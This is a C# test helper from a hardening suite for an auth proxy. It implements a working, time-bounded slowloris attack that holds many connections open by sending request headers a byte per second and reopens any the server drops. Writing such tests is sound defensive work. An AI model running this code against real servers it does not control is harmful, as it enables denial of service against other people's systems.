using System.Net;
using System.Net.Sockets;

namespace LlamaSwap.Tests.AuthProxy.Hardening;

/// <summary>
/// The attack of issue 11: many connections from one address, each sending its request headers one
/// byte a second and never finishing them. Bounded: at most <see cref="MaxDuration"/>, then it stops.
/// </summary>
internal sealed class SlowlorisAttack : IAsyncDisposable
{
    public static readonly TimeSpan MaxDuration = TimeSpan.FromSeconds(60);

    private const string Dribble = "GET /v1/models HTTP/1.1\r\nHost: x\r\nX-Slow: ";

    private readonly List<(RawClient? Client, Task<(string Received, bool Closed)> Closed)> _connections = [];
    private readonly CancellationTokenSource _stop = new(MaxDuration);

    // Dribbling and reopening take turns over the connection list.
    private readonly SemaphoreSlim _turn = new(1);
    private Task _dribbling = Task.CompletedTask;

    public int Opened => _connections.Count;

    /// <summary>Connections the server has closed or reset so far.</summary>
    public int ClosedByServer => _connections.Count(c => c.Closed.IsCompletedSuccessfully && c.Closed.Result.Closed);

    public int StillOpen => Opened - ClosedByServer;

    public static async Task<SlowlorisAttack> StartAsync(IPAddress from, IPEndPoint to, int connections)
    {
        var attack = new SlowlorisAttack();
        try
        {
            for (var i = 0; i < connections; i++)
            {
                attack._connections.Add(await attack.ConnectAsync(from, to));
            }

            attack._dribbling = attack.DribbleAsync();
            return attack;
        }
        catch
        {
            await attack.DisposeAsync();
            throw;
        }
    }

    /// <summary>What a slowloris tool does when the server drops its sockets: opens them again.</summary>
    /// <returns>How many it opened again.</returns>
    public async Task<int> ReopenClosedAsync(IPAddress from, IPEndPoint to)
    {
        await _turn.WaitAsync();
        try
        {
            var reopened = 0;
            for (var i = 0; i < _connections.Count; i++)
            {
                var (old, closed) = _connections[i];
                if (closed.IsCompletedSuccessfully && closed.Result.Closed)
                {
                    old?.Dispose();
                    _connections[i] = await ConnectAsync(from, to);
                    reopened++;
                }
            }

            return reopened;
        }
        finally
        {
            _turn.Release();
        }
    }

    private async Task<(RawClient?, Task<(string, bool)>)> ConnectAsync(IPAddress from, IPEndPoint to)
    {
        RawClient client;
        try
        {
            client = await RawClient.ConnectAsync(from, to, _stop.Token);
        }
        catch (SocketException)
        {
            // Reset by the server before the connect completed here: dropped at accept.
            return (null, Task.FromResult(("", true)));
        }

        var closed = client.ReadUntilClosedAsync(MaxDuration);
        await client.TrySendAsync(Dribble[..1]);
        return (client, closed);
    }

    /// <summary>One more byte a second on every connection, never the blank line that would end the headers.</summary>
    private async Task DribbleAsync()
    {
        using var tick = new PeriodicTimer(TimeSpan.FromSeconds(1));
        var position = 1;
        try
        {
            while (await tick.WaitForNextTickAsync(_stop.Token))
            {
                var next = position < Dribble.Length ? Dribble[position++].ToString() : "a";
                await _turn.WaitAsync(_stop.Token);
                try
                {
                    foreach (var (client, closed) in _connections)
                    {
                        if (client is not null && !closed.IsCompleted)
                        {
                            await client.TrySendAsync(next);
                        }
                    }
                }
                finally
                {
                    _turn.Release();
                }
            }
        }
        catch (OperationCanceledException)
        {
        }
    }

    public async ValueTask DisposeAsync()
    {
        await _stop.CancelAsync();
        await _dribbling;
        foreach (var (client, _) in _connections)
        {
            client?.Dispose();
        }

        _stop.Dispose();
        _turn.Dispose();
    }
}
